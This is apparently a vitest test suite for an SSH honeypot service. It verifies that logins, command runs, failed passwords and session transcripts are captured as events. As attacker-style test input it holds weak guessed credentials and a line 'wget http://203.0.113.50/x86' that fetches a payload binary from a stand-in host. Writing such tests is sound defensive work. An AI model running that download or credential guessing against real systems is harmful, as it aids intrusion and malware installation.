import { existsSync, mkdtempSync, readFileSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { decodeSecret, ensureClients, runClient, startTestService, type TestService } from '@decnet/decky-kit/testing';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { service } from './index.js';

let svc: TestService;
const keyDir = join(mkdtempSync(join(tmpdir(), 'ssh-keys-')), 'keys');

beforeAll(async () => {
  await ensureClients('ssh', 'sshpass');
  svc = await startTestService(service, { SSH_HOST_KEY_DIR: keyDir, SSH_ACCEPT: 'admin:123456', SSH_HOSTNAME: 'web-01' });
});
afterAll(async () => {
  await svc?.close();
});

const SSH_OPTS = ['-o', 'StrictHostKeyChecking=no', '-o', 'UserKnownHostsFile=/dev/null', '-o', 'LogLevel=ERROR', '-o', 'ConnectTimeout=10', '-o', 'NumberOfPasswordPrompts=1'];

function ssh(password: string, user: string, extra: string[], command?: string, input?: string) {
  const args = ['-p', password, 'ssh', ...SSH_OPTS, ...extra, '-p', String(svc.port), `${user}@127.0.0.1`, ...(command === undefined ? [] : [command])];
  return runClient('sshpass', args, { timeoutMs: 30_000, ...(input !== undefined ? { input } : {}) });
}

describe('OpenSSH logs in with sshpass, runs commands, and every attempt is captured', () => {
  it('runs an exec command as root with the catalog password and records it', async () => {
    const r = await ssh('admin', 'root', ['-o', 'PreferredAuthentications=password'], 'uname -a; id; cat /etc/hostname');
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
    expect(r.stdout).toBe(
      'Linux web-01 5.15.0-113-generic #123-Ubuntu SMP Mon Jun 10 08:16:17 UTC 2024 x86_64 x86_64 x86_64 GNU/Linux\nuid=0(root) gid=0(root) groups=0(root)\nweb-01\n',
    );
    const [auth] = await svc.events.waitFor((e) => e.type === 'auth_attempt' && e.fields['outcome'] === 'success' && e.fields['username'] === 'root');
    expect(auth?.fields).toMatchObject({ method: 'password', principal: 'root', secret_kind: 'plaintext', src_ip: '127.0.0.1' });
    expect(decodeSecret(auth)).toBe('admin');
    const [cmd] = await svc.events.waitFor((e) => e.type === 'command' && e.fields['sid'] === auth?.fields['sid']);
    expect(cmd?.fields).toMatchObject({ cmd: 'uname -a; id; cat /etc/hostname', channel: 'exec', user: 'root' });
    const [rec] = await svc.events.waitFor((e) => e.type === 'session_recorded' && e.fields['sid'] === auth?.fields['sid']);
    expect(rec?.fields).toMatchObject({ service: 'ssh', user: 'root', channel: 'exec', commands: '1' });
    const [version] = await svc.events.waitFor((e) => e.type === 'client_version' && e.fields['sid'] === auth?.fields['sid']);
    expect(version?.fields['client_version']).toMatch(/^SSH-2\.0-OpenSSH_/);
  });

  it('captures a wrong password as a failed credential attempt and refuses the login', async () => {
    const r = await ssh('Summer2024!', 'oracle', ['-o', 'PreferredAuthentications=password'], 'id');
    expect(r.code).not.toBe(0);
    const [auth] = await svc.events.waitFor((e) => e.type === 'auth_attempt' && e.fields['username'] === 'oracle');
    expect(auth?.fields).toMatchObject({ outcome: 'failure', method: 'password', secret_printable: 'Summer2024!' });
    expect(decodeSecret(auth)).toBe('Summer2024!');
  });

  it('captures keyboard-interactive answers and accepts SSH_ACCEPT logins', async () => {
    const r = await ssh('123456', 'admin', ['-o', 'PreferredAuthentications=keyboard-interactive'], 'whoami');
    expect(r.code).toBe(0);
    expect(r.stdout).toBe('admin\n');
    const [auth] = await svc.events.waitFor((e) => e.type === 'auth_attempt' && e.fields['method'] === 'keyboard-interactive');
    expect(auth?.fields).toMatchObject({ outcome: 'success', principal: 'admin' });
    expect(decodeSecret(auth)).toBe('123456');
  });

  it('gives an interactive pty session the motd, prompts, echo and a transcript', async () => {
    const r = await ssh('admin', 'root', ['-tt', '-o', 'PreferredAuthentications=password'], undefined, 'cd /tmp\npwd\nwget http://203.0.113.50/x86\nexit\n');
    expect(r.code).toBe(0);
    expect(r.stdout).toContain('Welcome to Ubuntu 22.04.4 LTS');
    expect(r.stdout).toContain('root@web-01:/tmp# ');
    expect(r.stdout).toContain('/tmp\r\n');
    const dl = await svc.events.waitFor((e) => e.type === 'download_attempt' && e.fields['url'] === 'http://203.0.113.50/x86');
    expect(dl[0]?.fields).toMatchObject({ tool: 'wget' });
    const [rec] = await svc.events.waitFor((e) => e.type === 'session_recorded' && e.fields['channel'] === 'shell');
    expect(rec?.fields).toMatchObject({ user: 'root', commands: '4' });
    const transcript = JSON.parse(rec?.fields['transcript'] ?? '[]') as [number, string, string][];
    expect(transcript.filter(([, d]) => d === 'i').map(([, , t]) => t)).toEqual(['cd /tmp', 'pwd', 'wget http://203.0.113.50/x86', 'exit']);
    expect(svc.events.bad).toEqual([]);
  });

  it('persisted its host keys owner-only and presents the same key after a restart', async () => {
    for (const t of ['ed25519', 'ecdsa', 'rsa']) {
      const file = join(keyDir, `ssh_host_${t}_key`);
      expect(existsSync(file)).toBe(true);
      expect(statSync(file).mode & 0o777).toBe(0o600);
      expect(readFileSync(`${file}.pub`, 'utf8')).toMatch(/^(ssh-ed25519|ecdsa-sha2-nistp256|ssh-rsa) /);
    }
    const scan = async (port: number) => (await runClient('ssh-keyscan', ['-t', 'ed25519', '-p', String(port), '127.0.0.1'], { timeoutMs: 15_000 })).stdout.replace(/^\S+ /gm, '');
    const first = await scan(svc.port);
    const again = await startTestService(service, { SSH_HOST_KEY_DIR: keyDir });
    try {
      expect(first).toMatch(/ssh-ed25519 AAAA/);
      expect(await scan(again.port)).toBe(first);
    } finally {
      await again.close();
    }
  });
});
